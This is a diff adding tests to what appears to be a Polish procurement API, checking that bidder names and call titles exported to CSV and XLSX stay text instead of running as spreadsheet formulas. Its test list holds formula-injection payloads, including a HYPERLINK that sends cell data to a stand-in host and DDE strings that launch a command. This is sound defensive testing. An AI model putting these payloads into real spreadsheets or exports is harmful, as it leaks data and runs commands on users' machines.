@@ -127,3 +127,46 @@ async def test_a_streamed_export_gives_its_database_connection_back(commissionin
         answer = await http.get("/v1/contracts", params={"format": "csv"})
         assert answer.status_code == 200
     assert pool.checkedout() == before
+
+
+# What a spreadsheet would run as a formula: each starting character OWASP names, after the text a person typed
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Kliknij")',
+    "+48 600 100 200",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1 Spółdzielnia",
+    "\r=1+1 Fundacja",
+]
+
+
+async def test_text_that_would_run_as_a_formula_stays_text_and_numbers_stay_numbers(api, client, clock):
+    await municipality(api)
+    call = await open_call(api, await need(api, client))
+    for name in FORMULAS:
+        bidder = await verified_provider(client, name=name)
+        body = {"lot_id": call["lots"][0]["id"], "total_price_grosze": 48_000_050, "quantity": 100}
+        body["answers"] = {**ANSWERS, "quality": "-5"}  # an answer that is a negative number: a number still
+        sent = await api.post(f"/v1/calls/{call['id']}/offers", json=body, headers=provider(bidder["id"]))
+        assert sent.status_code == 201, sent.text
+    clock.set(datetime.fromisoformat(call["deadline"]))
+    url = f"/v1/calls/{call['id']}/offers"
+    rows = read_csv(await api.get(url, params={"format": "csv"}, headers=STARACHOWICE))
+    quality = rows[0].index("jakość usług (quality)")
+    assert sorted(row[0] for row in rows[1:]) == sorted("'" + name for name in FORMULAS)
+    assert {(row[3], row[quality]) for row in rows[1:]} == {("480000,50", "-5")}
+    sheet = read_xlsx(await api.get(url, params={"format": "xlsx"}, headers=STARACHOWICE)).worksheets[0]
+    names = [row[0] for row in sheet.iter_rows(min_row=2)]
+    # a carriage return is stored as XML's escape, which Excel reads back and openpyxl leaves as it is
+    assert sorted(cell.value.replace("_x000D_", "\r") for cell in names) == sorted(FORMULAS)
+    assert all(cell.data_type == "s" and cell.quotePrefix for cell in names)  # text, and text when edited
+    assert {row[3].value for row in sheet.iter_rows(min_row=2)} == {480_000.5}
+
+
+async def test_a_call_title_that_would_run_as_a_formula_stays_text_in_the_calls_spreadsheet(api, client):
+    await municipality(api)
+    care = await need(api, client)
+    for title in FORMULAS:
+        await open_call(api, care, title=title)
+    rows = read_csv(await api.get("/v1/calls", params={"municipality": "2611011", "format": "csv"}))
+    assert sorted(row[1] for row in rows[1:]) == sorted("'" + title for title in FORMULAS)
